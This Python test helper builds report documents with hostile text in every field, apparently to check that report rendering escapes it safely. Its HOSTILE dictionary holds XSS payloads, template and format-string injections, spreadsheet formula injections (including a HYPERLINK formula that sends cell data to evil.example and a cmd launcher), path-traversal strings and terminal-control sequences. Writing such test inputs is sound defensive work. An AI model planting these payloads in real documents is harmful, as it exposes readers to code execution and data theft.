"""Strings that attack a reader of a report, and documents that hold one everywhere."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import msgspec
from report_samples import comparison, evidence

from codesim.model import Plot, Series, Table
from codesim.report import ResultDocument, document_of

HOSTILE: dict[str, str] = {
    "script": "</script><script>alert(1)</script>",
    "comment": "<!--<script>",
    "event handler": '" onmouseover=alert(1) x="',
    "event handler, single quotes": "' onfocus=alert(1) autofocus x='",
    "image that fails": "<img src=x onerror=alert(1)>",
    "javascript address": "javascript:alert(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    "Jinja": "{{ 7 * 7 }}{% raw %}",
    "shell and JavaScript templates": "${7*7} #{7*7} `$(id)`",
    "placeholder": "{0} {1} {{2}} %s %(name)s %n",
    "format": "{0.__class__.__mro__}",
    "entity": "&lt;script&gt; &#60;b&#62; &amp;",
    "link": "[text](javascript:alert(1)) ![img](http://evil.example/x.png)",
    "reference link": "[a]: http://evil.example 'x'\n[a]",
    "autolinks": "<https://evil.example> https://evil.example www.evil.example me@evil.example",
    "mentions": "@everyone #1 GH-1 owner/repo#2 deadbeefdeadbeef :bomb:",
    "lists": "1. first\n2) second\n- third\n+ fourth",
    "headings": "= = =\n===\n---\n# head",
    "backticks": "``` ````\n~~~\n# head\n- item\n> quote",
    "one backtick": "`",
    "emphasis": "*bold* _under_ ~~gone~~ \\` **",
    "table cells": "a | b || \\| c \\\\| d",
    "SARIF link": "see [this](1) and [that](http://evil.example)",
    "escape": "a\x1b[31mred\x1b]0;title\x07\x1b[2J",
    "C1 control": "c1\x9b31m\x85\x90",
    "bidi": "bidi\u202etxt.exe\u2066x\u2069\u200f",
    "zero width": "zero\u200bwidth\u200d\ufeff",
    "line ends": "carriage\rreturn\r\nline\nfeed\x0b\x0c\u2028\u2029end",
    "nul": "nul\x00byte",
    "lone surrogates": "surrogate\ud800\udcff",
    "not in Unicode": "\uffff\ufdd0\U0010ffff",
    "command formula": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab before a formula": "\t=1+1",
    "line end before a formula": "\r\n=1+1",
    "full-width formula": "\uff1d1+1",
    "formula after a separator": 'x;=1+1,=2+2\t=3+3|=4+4;"=5+5',
    "separators": 'a,b;c\td"e""f',
    "percent": "%2e%2e/%00 100% %zz",
    "parents": "../../etc/passwd",
    "parents within": "a/../../b/./c//d",
    "absolute": "/etc/passwd",
    "other host": "//evil.example/x.py",
    "drive and backslashes": "C:\\Users\\..\\x.py",
    "query and fragment": "a b#c?d&e=f.py",
    "option": "--output=/etc/passwd",
    "device": "CON.py",
    "empty": "",
    "blank": "   ",
    "long": "x" * 5000,
    "wide": "\u754c" * 300,
}
# Fields of the document that hold one of a fixed list of words.
_FIXED = {"schema", "strength", "clone_type"}


def holding(text: str) -> ResultDocument:
    """A document with ``text`` in every field that can hold any, and as every name of a map.

    A document holds what UTF-8 can hold: a lone surrogate is an escape in it, as it is in a result.
    """
    text = text.encode("utf-8", "backslashreplace").decode("utf-8")
    return msgspec.convert(_replaced(msgspec.to_builtins(_full()), lambda _: text), ResultDocument)


def plain() -> ResultDocument:
    """The same document with harmless words."""
    return holding("plain")


def _full() -> ResultDocument:
    table = Table("title", ("state", "name"), (("same", "cell"), ("changed", "cell")), "note")
    plots = tuple(
        Plot("title", kind, "x", "y", (Series("name", ((0.0, 1.0), (1.0, 2.0))),) * 2, "note")
        for kind in ("line", "bars", "qq", "heat")
    )
    found = evidence(tables=(table,), plots=plots, facts={"name": "value", "count": 3})
    return document_of(comparison(evidence=(found, evidence(kind="config", pairs=()))))


def _replaced(value: Any, change: Callable[[str], str], name: str = "", kind: str = "") -> Any:
    if isinstance(value, str):
        return value if name in _FIXED or (name == "kind" and kind == "plots") else change(value)
    if isinstance(value, list | tuple):
        return [_replaced(each, change, name, name) for each in value]
    if not isinstance(value, dict):
        return value
    if name in ("left", "right") and kind == "sources":
        return {change(each): "\n" * 20 + change(text) for each, text in value.items()}
    if name in ("facts", "parameters"):
        return {change(each): _replaced(inner, change) for each, inner in value.items()}
    return {
        each: _replaced(inner, change, each, name if name in ("plots", "sources") else each)
        for each, inner in value.items()
    }
